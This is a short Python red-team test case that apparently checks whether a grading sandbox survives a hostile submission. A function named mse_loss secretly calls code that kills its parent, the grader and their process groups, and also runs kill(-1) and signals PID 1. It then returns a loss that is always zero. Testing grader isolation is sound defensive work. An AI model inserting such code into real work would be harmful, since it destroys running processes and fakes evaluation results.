# redteam: exercise=ex01 score=0 needs=root
"""Signals everything it can reach: its parent (the zygote), the zygote's parent (the
grader), their process groups, and with kill(-1) every process its uid may signal. As
root the grader gives each worker a uid of its own, so kill(-1) has nothing to hit; run as an
ordinary user, this case would hit every process of that user if the worker's guard failed,
so it only runs as root."""
import os
import signal


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def fire():
    targets = [lambda: os.kill(os.getppid(), signal.SIGKILL)]
    try:
        grader = parent_of(os.getppid())
        targets += [lambda: os.kill(grader, signal.SIGKILL), lambda: os.killpg(grader, signal.SIGKILL),
                    lambda: os.kill(grader, signal.SIGINT)]
    except OSError:
        pass
    targets += [lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL),
                lambda: os.kill(1, signal.SIGTERM)]
    for target in targets:
        try:
            target()
        except OSError:
            pass


def mse_loss(input, target, reduction="mean"):
    fire()
    return (input - target).sum() * 0
